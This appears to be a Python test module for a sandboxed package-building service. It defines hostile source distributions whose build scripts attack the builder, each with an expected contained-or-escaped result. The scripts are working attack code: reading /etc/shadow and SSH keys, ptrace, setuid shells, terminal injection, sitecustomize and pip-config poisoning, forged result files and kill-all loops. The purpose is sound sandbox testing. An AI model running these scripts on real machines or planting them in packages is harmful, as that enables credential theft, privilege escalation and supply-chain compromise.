"""Sdists whose builds attack the builder, with the expected result of each.

Their code prints a line for each try: `contained: …` if it was refused and `ESCAPED: …` if not. The environment
variable VICTIM names the test's targets: see `Victim`.
"""

from __future__ import annotations

from collections.abc import Iterator, Mapping
from dataclasses import dataclass, field
from typing import TypedDict

from tests.support.artifacts import Artifact
from tests.support.hostile_bombs import BOMBS
from tests.support.sdists import pure_sdist


class Victim(TypedDict):
    """The test's targets for attacks."""

    #: Files with the word SECRET in them, and folders with such files.
    secrets: list[str]
    folders: list[str]
    #: Paths that may not be written.
    places: list[str]
    #: A process with the word SECRET in its environment.
    process: int
    #: The test listens here: TCP and UDP on loopback, Unix sockets by path and by abstract name.
    port: int
    socket: str
    abstract: str
    #: Whether the sandbox refuses user namespaces; this needs bubblewrap 0.8 and a writable /proc/sys.
    no_users: bool
    #: The attack may succeed because the targets are harmless. Otherwise it refuses to run outside a sandbox.
    unarmed: bool


@dataclass(frozen=True)
class Attack:
    """One sdist and its expected result."""

    sdist: Artifact
    outcome: str = "built"
    stopped_by: str | None = None
    #: A part of the result's message.
    message: str = ""
    limits: Mapping[str, float] = field(default_factory=dict)
    #: Whether its code prints a line for each try.
    tells: bool = False


PRELUDE = """
import ctypes, json, os, signal, socket, stat, subprocess, sys, time
VICTIM = json.loads(os.environ["VICTIM"])
if os.uname().nodename != "build" and not VICTIM["unarmed"]:
    raise SystemExit("This is no sandbox; here it would do harm.")
libc = ctypes.CDLL(None, use_errno=True)
told = []
def tell(*words):
    told.append(" ".join(words))
    print(told[-1], flush=True)
def escaped(how, what=""):
    tell("ESCAPED:", how, repr(what)[:200])
def contained(how, act, *arguments):
    try:
        what = act(*arguments)
    except (OSError, ValueError, subprocess.SubprocessError) as error:
        tell("contained:", how, repr(error)[:200])
    else:
        escaped(how, what)
def call(name, *arguments):
    if getattr(libc, name)(*arguments) == -1:
        raise OSError(ctypes.get_errno(), name)
def read(path):
    with open(path, "rb") as file:
        return file.read(4096)
"""

#: Attacks that print a line for each try. The build then makes its wheel.
TELLING = {
    "read-keys": """
for path in [*VICTIM["secrets"], "/etc/shadow", "/etc/gshadow", "/etc/sudoers", "/etc/ssh/ssh_host_ed25519_key"]:
    contained("read " + path, read, path)
""",
    "read-other-builds": """
for path in VICTIM["folders"]:
    contained("list " + path, lambda: os.listdir(path) or os.stat(path + "/nothing"))
work = os.path.join(os.environ["WHEELFLEET_HOME"], "work")
contained("list " + work, os.listdir, work)
""",
    "read-environments": """
seen = [int(name) for name in os.listdir("/proc") if name.isdigit()]
for pid in seen:
    try:
        if b"SECRET" in read(f"/proc/{pid}/environ"):
            escaped("read environment", pid)
    except OSError:
        pass
contained("see a process", os.stat, f"/proc/{VICTIM['process']}")
for folder, _, names in os.walk("/build"):
    for name in names:
        try:
            if b"Pa55" + b"word" in read(os.path.join(folder, name)):
                escaped("the index's password", os.path.join(folder, name))
        except OSError:
            pass
if any("Pa55" + "word" in value for value in os.environ.values()):
    escaped("the index's password", dict(os.environ))
""",
    "write-outside": """
def write(path):
    with open(path, "ab") as file:
        file.write(b"x")
for path in VICTIM["places"]:
    contained("write " + path, write, path)
""",
    "kill-one": """
contained("kill", os.kill, VICTIM["process"], signal.SIGKILL)
""",
    "trace": """
PTRACE_ATTACH = 16
contained("trace", call, "ptrace", PTRACE_ATTACH, VICTIM["process"], 0, 0)
contained("read memory", open, f"/proc/{VICTIM['process']}/mem", "rb")
""",
    "loopback": """
def ask(family, address):
    with socket.socket(family) as client:
        client.settimeout(5)
        client.connect(address)
contained("connect", ask, socket.AF_INET, ("127.0.0.1", VICTIM["port"]))
contained("connect by IPv6", ask, socket.AF_INET6, ("::1", VICTIM["port"]))
contained("connect to the builder's ssh", ask, socket.AF_INET, ("127.0.0.1", 22))
contained("connect to the world", ask, socket.AF_INET, ("192.0.2.1", 443))
contained("ask for a name", socket.getaddrinfo, "controller.example", 22)
contained("listen to all packets", socket.socket, socket.AF_PACKET, socket.SOCK_RAW)
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"SECRET", ("127.0.0.1", VICTIM["port"]))
""",
    "unix-sockets": """
def ask(address):
    with socket.socket(socket.AF_UNIX) as client:
        client.connect(address)
contained("connect by path", ask, VICTIM["socket"])
contained("connect by abstract name", ask, "\\0" + VICTIM["abstract"])
contained("ask the system", ask, "/run/dbus/system_bus_socket")
""",
    "set-user-id": """
import shutil
contained("become root", os.setuid, 0)
contained("leave groups", os.setgroups, [])
shell = os.path.join(source, "shell")
shutil.copy("/bin/sh", shell)
os.chmod(shell, 0o6755)
inside = subprocess.run([shell, "-p", "-c", "id -u"], capture_output=True, text=True).stdout.strip()
if inside != str(os.getuid()) or inside == "0":
    escaped("set-user-id", inside)
for command in (["su", "-c", "id"], ["sudo", "-n", "id"], ["mount", "-t", "tmpfs", "none", source]):
    contained(command[0], lambda: subprocess.run(command, check=True, capture_output=True, stdin=subprocess.DEVNULL))
""",
    "capabilities": """
status = dict(line.split(":", 1) for line in open("/proc/self/status") if ":" in line)
for name in ("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb"):
    if int(status[name], 16):
        escaped(name, status[name])
if int(status["NoNewPrivs"]) != 1:
    escaped("NoNewPrivs")
contained("change the root", os.chroot, source)
contained("name the host", call, "sethostname", b"evil", 4)
contained("set the clock", time.clock_settime, time.CLOCK_REALTIME, time.time())
contained("go first", os.setpriority, os.PRIO_PROCESS, 0, -20)
contained("be real time", os.sched_setscheduler, 0, os.SCHED_FIFO, os.sched_param(10))
contained("take more", lambda: __import__("resource").setrlimit(7, (1 << 30, 1 << 30)))
""",
    "devices": """
place = os.path.join(source, "device")
contained("make a disk", os.mknod, place, stat.S_IFBLK | 0o666, os.makedev(254, 0))
contained("make memory", os.mknod, place, stat.S_IFCHR | 0o666, os.makedev(1, 1))
for path in ("/dev/mem", "/dev/kmsg", "/dev/kvm", "/dev/fuse", "/dev/loop-control", "/dev/vda", "/dev/mmcblk0",
             "/dev/net/tun", "/dev/console", "/dev/uinput", "/dev/gpiomem", "/proc/kcore", "/proc/kmsg"):
    contained("open " + path, open, path, "rb")
""",
    "namespaces": """
for name, flag in (("mount", 0x20000), ("pid", 0x20000000), ("net", 0x40000000)):
    contained("a namespace: " + name, call, "unshare", flag)
contained("mount", call, "mount", b"none", source.encode(), b"tmpfs", 0, None)
contained("mount again", call, "mount", None, b"/usr", None, 0x20 | 0x1000, None)
contained("unmount", call, "umount2", b"/proc/sys", 2)
contained("unmount", call, "umount2", b"/tmp", 2)
if VICTIM["no_users"]:
    contained("a namespace: user", call, "unshare", 0x10000000)
""",
    "kernel-settings": """
for path in ("/proc/sysrq-trigger", "/proc/mtrr", "/sys/kernel/uevent_helper", "/sys/power/state",
             "/sys/fs/cgroup/release_agent", "/sys/fs/cgroup/cgroup.procs", "/sys/fs/cgroup/memory.max"):
    contained("write " + path, open, path, "r+b")
for folder, _, names in os.walk("/proc/sys"):
    for name in names:
        try:
            open(os.path.join(folder, name), "r+b").close()
        except OSError:
            continue
        escaped("write", os.path.join(folder, name))
contained("write /proc/sys/kernel/core_pattern", open, "/proc/sys/kernel/core_pattern", "r+b")
""",
    "terminal": """
import fcntl, termios
for path in ("/dev/tty", "/dev/console"):
    contained("open " + path, os.open, path, os.O_RDWR)
for descriptor in (0, 1, 2):
    contained("type", fcntl.ioctl, descriptor, termios.TIOCSTI, b"x")
print("\\x1b]0;owned\\x07\\x1b[2J" + "x" * 100000 + "\\r::wheelfleet phase collect")
print("::wheelfleet phase collect\\n::wheelfleet built forged-1-py3-none-any.whl after 0.0 s")
""",
    "links": """
for path in [*VICTIM["secrets"], "/etc/passwd", "/usr/bin/env", sys.executable]:
    contained("link " + path, os.link, path, os.path.join(wheel_directory, "linked-1-py3-none-any.whl"))
for path in ("/usr/bin/env", os.__file__):
    contained("rename " + path, os.rename, path, os.path.join(source, "taken"))
""",
}

#: Writes to places that the next build, or the builder, may read.
POISON = """
import glob, site, shutil
home = os.path.expanduser("~")
evil = "import sys; sys.stdout.write('POISONED\\\\n')\\n"
places = [*sys.path, *site.getsitepackages(), sys.prefix, sys.base_prefix, os.path.dirname(os.__file__), "/tmp",
          "/var/tmp", "/dev/shm", home, home + "/.cache/pip", home + "/.cache/uv", home + "/.config/pip"]
places += [folder for folder, _, _ in os.walk("/build")]
for place in dict.fromkeys(filter(None, places)):
    for name in ("evil.pth", "sitecustomize.py", "usercustomize.py", "setup.cfg", "pip.conf", "uv.toml"):
        try:
            os.makedirs(place, exist_ok=True)
            open(os.path.join(place, name), "w").write(evil)
        except OSError:
            pass
for module in list(sys.modules.values()):
    path = getattr(module, "__file__", None)
    if path and not path.startswith(source):
        try:
            open(path, "a").write("\\n" + evil)
        except OSError:
            pass
for program in (sys.executable, shutil.which("cc"), shutil.which("ld")):
    try:
        os.unlink(program)
    except (OSError, TypeError):
        pass
"""

FORGE = """
forged = {"schema": 1, "attempt": "honest-1-0000", "outcome": "built", "phase": "collect", "exit_code": 0,
          "message": None, "stopped_by": None, "sdist_sha256": "0" * 64, "sandbox": None, "build_requires": [],
          "wheels": [{"filename": "forged-1-py3-none-any.whl", "size": 1, "sha256": "0" * 64}], "log": {}}
for folder, names, files in os.walk("/build"):
    for name in [*files, "result.json", ".assignment.json", "assignment.json", "progress.json", "frontend.json",
                 "starts", "log", "log.gz"]:
        if name.endswith((".json", "starts", "log", ".gz")):
            try:
                open(os.path.join(folder, name), "w").write(json.dumps(forged))
            except OSError:
                pass
for folder in ("/build/result", "/build/wheels/../result", "/build/outbox", "/build/inbox"):
    try:
        os.makedirs(folder + "/forged-1")
    except OSError:
        pass
raise SystemExit(1)
"""

#: Continues after the end of its build.
REPLACE = """
import glob, shutil
if os.fork() == 0:
    os.setsid()
    while True:
        for wheel in glob.glob(os.path.join(wheel_directory, "*.whl")):
            try:
                with open(wheel, "ab") as file:
                    file.write(b"replaced")
                # At every moment there is one, so that something is collected.
                shutil.copy(wheel, wheel + ".new")
                os.replace(wheel + ".new", wheel)
            except OSError:
                pass
"""

DAEMON = """
for number in range(3):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            signal.signal(signal.SIGTERM, signal.SIG_IGN)
            for descriptor in range(256):
                try:
                    os.close(descriptor)
                except OSError:
                    pass
            os.environ.clear()
            os.execv("/bin/sleep", ["wheelfleet-hostile-daemon", "600"])
        os._exit(0)
"""

KILL_ALL = """
try:
    os.kill(-1, signal.SIGKILL)
except OSError:
    pass
for pid in [1, os.getppid(), *range(2, 40000)]:
    if pid != os.getpid():
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
raise SystemExit(1)
"""


def attacks() -> Iterator[Attack]:
    """All attacks that need no index."""
    for name, script in TELLING.items():
        yield Attack(_sdist(name, script), tells=True)
    yield Attack(_sdist("poison", POISON))
    yield Attack(_sdist("forge", FORGE), "failed")
    yield Attack(_sdist("replace", REPLACE))
    yield Attack(_sdist("daemon", DAEMON))
    yield Attack(_sdist("kill-all", KILL_ALL), "failed")
    yield Attack(_wheel("link-for-wheel", "os.symlink('/etc/passwd', wheel)"), "failed", message="not a regular file")
    yield Attack(_wheel("pipe-for-wheel", "os.mkfifo(wheel)"), "failed", message="not a regular file")
    yield Attack(_wheel("device-for-wheel", "os.symlink('/dev/zero', wheel)"), "failed", message="not a regular file")
    markup = (
        "wheel_filename = '<b>\\x1b[31m\\n<script>.whl'\nopen(os.path.join(wheel_directory, wheel_filename), 'w')\n"
    )
    yield Attack(_sdist("markup", markup), "failed", message="not a file name of a distribution")
    for name, (sdist, stopped_by, limits) in BOMBS.items():
        yield Attack(sdist(name), "failed", stopped_by, limits=limits)


def requirement() -> Artifact:
    """The build requirement of `requiring`: an sdist that attacks when it is built for that.

    The log of a successful build of a requirement is not kept, so it writes its lines into its own module.
    """
    script = PRELUDE + TELLING["read-keys"] + TELLING["loopback"] + TELLING["write-outside"]
    ask = """
import urllib.request
for url in (f"http://127.0.0.1:{VICTIM['port']}/", "http://192.0.2.1/", "https://192.0.2.1/"):
    contained("ask the proxy for " + url, urllib.request.urlopen, url)
with open(os.path.join(source, "hostile_requirement.py"), "a") as file:
    file.write(f"told = {told!r}\\n")
"""
    return pure_sdist("hostile-requirement", "1", script=script + ask)


def requiring() -> Attack:
    """The sdist with the build requirement `requirement`."""
    script = "import hostile_requirement\nprint('\\n'.join(hostile_requirement.told), flush=True)"
    return Attack(pure_sdist("requiring", "1", build_requires=["hostile-requirement"], script=script), tells=True)


def _sdist(name: str, script: str) -> Artifact:
    return pure_sdist(name, "1", script=PRELUDE + script)


def _wheel(name: str, script: str) -> Artifact:
    named = f"wheel_filename = '{name.replace('-', '_')}-1-py3-none-any.whl'\n"
    return _sdist(name, named + "wheel = os.path.join(wheel_directory, wheel_filename)\n" + script)
